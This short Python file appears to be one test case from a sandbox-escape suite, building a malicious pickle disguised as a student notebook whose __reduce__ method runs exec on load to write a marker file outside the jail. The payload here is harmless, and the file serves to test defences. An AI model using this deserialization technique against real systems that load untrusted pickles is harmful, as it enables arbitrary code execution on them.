# DESC: a pickle that runs code when it is loaded, under the name of a notebook
# SUCCESS: the pickle is loaded: a marker outside the jail
# DETECT: marker
# KIND: file
# WALLS: repair
import pickle


def build(folder, student, notebook, constants):
    class Evil:
        def __reduce__(self):
            return (exec, (f"open({str(constants['marker'])!r} + '/not_a_notebook', 'w')",))

    return pickle.dumps(Evil())
